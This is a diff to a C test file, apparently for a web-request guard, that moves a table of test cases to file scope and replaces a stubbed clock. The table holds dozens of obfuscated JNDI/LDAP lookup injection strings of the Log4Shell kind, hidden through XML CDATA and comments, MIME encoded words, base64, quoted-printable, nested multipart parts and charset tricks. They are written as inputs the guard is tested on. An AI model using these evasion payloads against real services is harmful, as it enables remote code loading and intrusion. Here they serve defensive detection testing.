@@ -452,108 +452,102 @@ static void test_excluded(void **state)
 /* What readers of a type make of it, where no byte shows it. */
 #define PART(headers, content) \
     "--b\r\nContent-Disposition: form-data; " headers "\r\n\r\n" content "\r\n--b--\r\n"
+static const struct {
+    const char *type, *body, *want;
+} said[] = {
+    {XML, "<a>$<![CDATA[{jndi:ldap://x/a}]]></a>", "lookup reaches body ldap://x/a"},
+    {XML, "<a><![CDATA[${jn]]><![CDATA[di:ldap://x/a}]]></a>", "lookup reaches body ldap://x/a"},
+    {XML, "<a>$<!-- {x} -->{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
+    {XML, "<a>$<?b c?>{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
+    {XML, "<a>$<b/>{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
+    {XML, "<a><![CDATA[<!--]]>$<![CDATA[{jndi:ldap://x/a}]]></a>",
+     "lookup reaches body ldap://x/a"},
+    {XML, "<!DOCTYPE a [<!ENTITY j '{jn'>]><a>$&j;di:ldap://x/a}</a>", "limit encoding body"},
+    {XML, "<!DOCTYPE a SYSTEM 'b.dtd'><a>$ <b>{x}</b><![CDATA[$]]>{y}</a>", "nothing"},
+    {XML, "\x4c\x6f\xa7\x94\x93", "limit charset body"},
+    {XML, "<?xml version=\"1.0\" encoding='utf-8'?><a/>", "nothing"},
+    {XML, "<?xml version='1.0' encoding = \"UTF-16\" standalone='yes'?><a/>", "nothing"},
+    {XML, "<?xml version='1.0'?><a encoding='ibm037'/>", "nothing"},
+    {XML, "<?xml-stylesheet encoding='ibm037'?><a/>", "nothing"},
+    {XML, "\xef\xbb\xbf<?xml version='1.0'\tencoding='ibm037'?><a/>", "limit charset body"},
+    {XML, "<?xml\n\n\n\nencoding \n=\t\"UCS-4\"?><a/>", "limit charset body"},
+    {XML, "<?xml encoding=''?><a/>", "nothing"},
+    {XML, "<?xml encoding?><a/>", "nothing"},
+    {XML, "<?xml version='1.0' a='" ZEROS ZEROS "' encoding='utf-8'?><a/>", "limit charset body"},
+    {MULTI, PART("name=n; filename=\"=?UTF-8?Q?=24=7Bjndi:ldap://x/a=7D?=\"", "x"),
+     "lookup reaches body ldap://x/a"},
+    {MULTI, PART("name=n; filename=\"=?utf-8?q?$?= \t=?UTF-8?Q?{jndi:ldap://x/a}?=\"", "x"),
+     "lookup reaches body ldap://x/a"},
+    {MULTI, PART("name=n; filename=\"=?utf-8?B?JHtq?= =?utf-8?B?bmRpOmxkYXA6Ly94L2F9?=\"", "x"),
+     "lookup reaches body ldap://x/a"},
+    {MULTI, PART("name=\"\\$\\{j\\ndi:ldap://x/a}\"", "x"), "lookup reaches body ldap://x/a"},
+    {MULTI,
+     PART("name=n\r\nContent-Transfer-Encoding: Quoted-Printable", "$=\r\n=7bjndi:ldap://x/a=7D"),
+     "lookup reaches body ldap://x/a"},
+    {MULTI, PART("name=n\r\nContent-Type: text/plain; charset=\"ibm037\"", "x"),
+     "limit charset body"},
+    {MULTI, PART("name=n\r\nContent-Type: text/plain; charset=utf-8", "x"), "nothing"},
+    /* base64 in lines of any length, with whatever else between its digits */
+    {MULTI,
+     PART("name=n\r\nContent-Transfer-Encoding: Base64",
+          "JHtq\r\nbmRp\r\nOm\r\nxk\r\nY X A 6.L\r\ny94\r\n\r\nL2F9"),
+     "lookup reaches body ldap://x/a"},
+    {MULTI, PART("name=n\r\nContent-Transfer-Encoding: base64", "JA==\r\ne2puZGk6eH0="),
+     "lookup reaches body x"},
+    {MULTI,
+     PART("name=n\r\nContent-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: "
+          "quoted-printable",
+          "x"),
+     "limit encoding body"},
+    {MULTI, PART("name=n; filename=\"=?utf-8?B?JA==?= =?utf-8*ja?b?e2puZGk6eH0=?=\"", "x"),
+     "lookup reaches body x"},
+    {MULTI, PART("name=n; filename=\"=?cp037?Q?=5B=C0?=\"", "x"), "limit charset body"},
+    {MULTI, PART("name=n; filename=\"=?utf-32be?Q?=00?=\"", "x"), "limit charset body"},
+    {MULTI, PART("name=n; filename=\"=?utf-8?Q?=5B?= =?x?y?=?=\"", "x"), "nothing"},
+    /* sections, and names as file names are written */
+    {MULTI, PART("filename*0=\"${jn\"; filename*1=\"di:x}\"", "x"), "lookup reaches body x"},
+    {MULTI, PART("name*0*=utf-8''%24; NAME*1=\"{jndi\"; name*2*=%3ax}", "x"),
+     "lookup reaches body x"},
+    {MULTI, PART("filename*1=\"di:x}\"; filename*0=\"${jn\"", "x"), "limit encoding body"},
+    {MULTI, PART("filename*0=\"${jn\"; name=a; filename*1=\"di:x}\"", "x"), "limit encoding body"},
+    {MULTI, PART("filename*0=a; filename*1=b; name*=utf-8''c; filename=d", "x"), "nothing"},
+    {MULTI, PART("filename*=ibm037''%5b%c0", "x"), "limit charset body"},
+    /* XML in a part, parts in a part */
+    {MULTI, PART("name=n\r\nContent-Type: text/xml", "<a>$<b/>{jndi:ldap://x/a}</a>"),
+     "lookup reaches body ldap://x/a"},
+    {MULTI,
+     PART("name=n\r\nContent-Type: application/\r\n soap+xml\r\n"
+          "Content-Transfer-Encoding: base64",
+          "PGE+JDxiLz57am5kaTpsZGFwOi8veC9hfTwvYT4="),
+     "lookup reaches body ldap://x/a"},
+    {MULTI, PART("name=n\r\nContent-Type: text/plain", "<a>$<b/>{jndi:ldap://x/a}</a>"), "nothing"},
+    {MULTI,
+     PART("name=n\r\nContent-Type: multipart/mixed;\r\n boundary=\"c\"",
+          "--c\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n$=\r\n=7Bjndi:x}\r\n--c--"),
+     "lookup reaches body x"},
+    {MULTI,
+     PART("name=n\r\nContent-Type: multipart/mixed; boundary=c",
+          "--c\r\nContent-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\nContent-Type: "
+          "text/xml\r\n\r\n<a>$<b/>{jndi:x}</a>\r\n--d--\r\n--c--"),
+     "lookup reaches body x"},
+    {MULTI,
+     PART("name=n\r\nContent-Type: multipart/mixed; boundary=c",
+          "--c\r\nContent-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\nContent-Type: "
+          "multipart/mixed; boundary=e\r\n\r\nx\r\n--d--\r\n--c--"),
+     "limit encoding body"},
+    {MULTI, PART("name=n; filename=\"C:\\new\\=?x=1?y=\"", "=24=7Bjndi:ldap://x/a=7D"), "nothing"},
+};
+
 static void test_said(void **state)
 {
-    static const struct {
-        const char *type, *body, *want;
-    } cases[] = {
-        {XML, "<a>$<![CDATA[{jndi:ldap://x/a}]]></a>", "lookup reaches body ldap://x/a"},
-        {XML, "<a><![CDATA[${jn]]><![CDATA[di:ldap://x/a}]]></a>",
-         "lookup reaches body ldap://x/a"},
-        {XML, "<a>$<!-- {x} -->{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
-        {XML, "<a>$<?b c?>{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
-        {XML, "<a>$<b/>{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
-        {XML, "<a><![CDATA[<!--]]>$<![CDATA[{jndi:ldap://x/a}]]></a>",
-         "lookup reaches body ldap://x/a"},
-        {XML, "<!DOCTYPE a [<!ENTITY j '{jn'>]><a>$&j;di:ldap://x/a}</a>", "limit encoding body"},
-        {XML, "<!DOCTYPE a SYSTEM 'b.dtd'><a>$ <b>{x}</b><![CDATA[$]]>{y}</a>", "nothing"},
-        {XML, "\x4c\x6f\xa7\x94\x93", "limit charset body"},
-        {XML, "<?xml version=\"1.0\" encoding='utf-8'?><a/>", "nothing"},
-        {XML, "<?xml version='1.0' encoding = \"UTF-16\" standalone='yes'?><a/>", "nothing"},
-        {XML, "<?xml version='1.0'?><a encoding='ibm037'/>", "nothing"},
-        {XML, "<?xml-stylesheet encoding='ibm037'?><a/>", "nothing"},
-        {XML, "\xef\xbb\xbf<?xml version='1.0'\tencoding='ibm037'?><a/>", "limit charset body"},
-        {XML, "<?xml\n\n\n\nencoding \n=\t\"UCS-4\"?><a/>", "limit charset body"},
-        {XML, "<?xml encoding=''?><a/>", "nothing"},
-        {XML, "<?xml encoding?><a/>", "nothing"},
-        {XML, "<?xml version='1.0' a='" ZEROS ZEROS "' encoding='utf-8'?><a/>",
-         "limit charset body"},
-        {MULTI, PART("name=n; filename=\"=?UTF-8?Q?=24=7Bjndi:ldap://x/a=7D?=\"", "x"),
-         "lookup reaches body ldap://x/a"},
-        {MULTI, PART("name=n; filename=\"=?utf-8?q?$?= \t=?UTF-8?Q?{jndi:ldap://x/a}?=\"", "x"),
-         "lookup reaches body ldap://x/a"},
-        {MULTI, PART("name=n; filename=\"=?utf-8?B?JHtq?= =?utf-8?B?bmRpOmxkYXA6Ly94L2F9?=\"", "x"),
-         "lookup reaches body ldap://x/a"},
-        {MULTI, PART("name=\"\\$\\{j\\ndi:ldap://x/a}\"", "x"), "lookup reaches body ldap://x/a"},
-        {MULTI,
-         PART("name=n\r\nContent-Transfer-Encoding: Quoted-Printable",
-              "$=\r\n=7bjndi:ldap://x/a=7D"),
-         "lookup reaches body ldap://x/a"},
-        {MULTI, PART("name=n\r\nContent-Type: text/plain; charset=\"ibm037\"", "x"),
-         "limit charset body"},
-        {MULTI, PART("name=n\r\nContent-Type: text/plain; charset=utf-8", "x"), "nothing"},
-        /* base64 in lines of any length, with whatever else between its digits */
-        {MULTI,
-         PART("name=n\r\nContent-Transfer-Encoding: Base64",
-              "JHtq\r\nbmRp\r\nOm\r\nxk\r\nY X A 6.L\r\ny94\r\n\r\nL2F9"),
-         "lookup reaches body ldap://x/a"},
-        {MULTI, PART("name=n\r\nContent-Transfer-Encoding: base64", "JA==\r\ne2puZGk6eH0="),
-         "lookup reaches body x"},
-        {MULTI,
-         PART("name=n\r\nContent-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: "
-              "quoted-printable",
-              "x"),
-         "limit encoding body"},
-        {MULTI, PART("name=n; filename=\"=?utf-8?B?JA==?= =?utf-8*ja?b?e2puZGk6eH0=?=\"", "x"),
-         "lookup reaches body x"},
-        {MULTI, PART("name=n; filename=\"=?cp037?Q?=5B=C0?=\"", "x"), "limit charset body"},
-        {MULTI, PART("name=n; filename=\"=?utf-32be?Q?=00?=\"", "x"), "limit charset body"},
-        {MULTI, PART("name=n; filename=\"=?utf-8?Q?=5B?= =?x?y?=?=\"", "x"), "nothing"},
-        /* sections, and names as file names are written */
-        {MULTI, PART("filename*0=\"${jn\"; filename*1=\"di:x}\"", "x"), "lookup reaches body x"},
-        {MULTI, PART("name*0*=utf-8''%24; NAME*1=\"{jndi\"; name*2*=%3ax}", "x"),
-         "lookup reaches body x"},
-        {MULTI, PART("filename*1=\"di:x}\"; filename*0=\"${jn\"", "x"), "limit encoding body"},
-        {MULTI, PART("filename*0=\"${jn\"; name=a; filename*1=\"di:x}\"", "x"),
-         "limit encoding body"},
-        {MULTI, PART("filename*0=a; filename*1=b; name*=utf-8''c; filename=d", "x"), "nothing"},
-        {MULTI, PART("filename*=ibm037''%5b%c0", "x"), "limit charset body"},
-        /* XML in a part, parts in a part */
-        {MULTI, PART("name=n\r\nContent-Type: text/xml", "<a>$<b/>{jndi:ldap://x/a}</a>"),
-         "lookup reaches body ldap://x/a"},
-        {MULTI,
-         PART("name=n\r\nContent-Type: application/\r\n soap+xml\r\n"
-              "Content-Transfer-Encoding: base64",
-              "PGE+JDxiLz57am5kaTpsZGFwOi8veC9hfTwvYT4="),
-         "lookup reaches body ldap://x/a"},
-        {MULTI, PART("name=n\r\nContent-Type: text/plain", "<a>$<b/>{jndi:ldap://x/a}</a>"),
-         "nothing"},
-        {MULTI,
-         PART(
-             "name=n\r\nContent-Type: multipart/mixed;\r\n boundary=\"c\"",
-             "--c\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n$=\r\n=7Bjndi:x}\r\n--c--"),
-         "lookup reaches body x"},
-        {MULTI,
-         PART("name=n\r\nContent-Type: multipart/mixed; boundary=c",
-              "--c\r\nContent-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\nContent-Type: "
-              "text/xml\r\n\r\n<a>$<b/>{jndi:x}</a>\r\n--d--\r\n--c--"),
-         "lookup reaches body x"},
-        {MULTI,
-         PART("name=n\r\nContent-Type: multipart/mixed; boundary=c",
-              "--c\r\nContent-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\nContent-Type: "
-              "multipart/mixed; boundary=e\r\n\r\nx\r\n--d--\r\n--c--"),
-         "limit encoding body"},
-        {MULTI, PART("name=n; filename=\"C:\\new\\=?x=1?y=\"", "=24=7Bjndi:ldap://x/a=7D"),
-         "nothing"},
-    };
     struct probe p;
     (void)state;
     probe_init(&p);
-    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
-        body_is(&p, cases[i].type, "", slice_str(cases[i].body), cases[i].want);
+    for (size_t i = 0; i < ARRAY_LEN(said); i++) {
+        body_is(&p, said[i].type, "", slice_str(said[i].body), said[i].want);
         probe_begin(&p);
-        assert_ok(guard_body_begin(&p.q, slice_str(cases[i].type), SLICE_LIT("")));
-        assert_false(guard_body_clean(&p.q, slice_str(cases[i].body)));
+        assert_ok(guard_body_begin(&p.q, slice_str(said[i].type), SLICE_LIT("")));
+        assert_false(guard_body_clean(&p.q, slice_str(said[i].body)));
         probe_end(&p);
     }
     p.options.excluded = excluded;
@@ -992,11 +986,6 @@ static void test_rule_excepted(void **state)
 
 /* --- credit */
 
-static uint64_t stands_still(void)
-{
-    return 1000000;
-}
-
 /* Evaluating this takes all that there is: 7 layers of it are beyond any budget. */
 static struct slice costly(struct buf *b, size_t n)
 {
@@ -1026,7 +1015,7 @@ static void test_credit(void **state)
     struct buf b, long_one;
     (void)state;
     probe_init(&p);
-    p.g->now_ms = stands_still;
+    probe_stop_clock(&p);
     p.g->seed = 1;
     buf_init(&b, MIB(1));
     buf_init(&long_one, MIB(1));
@@ -1064,7 +1053,7 @@ static void test_ordinary_bundle(void **state)
     struct buf b;
     (void)state;
     probe_init(&p);
-    p.g->now_ms = stands_still;
+    probe_stop_clock(&p);
     buf_init(&b, MIB(2));
     for (size_t k = 0; k < ARRAY_LEN(lines); k++) {
         char client[4] = {1, 1, 2, (char)k};
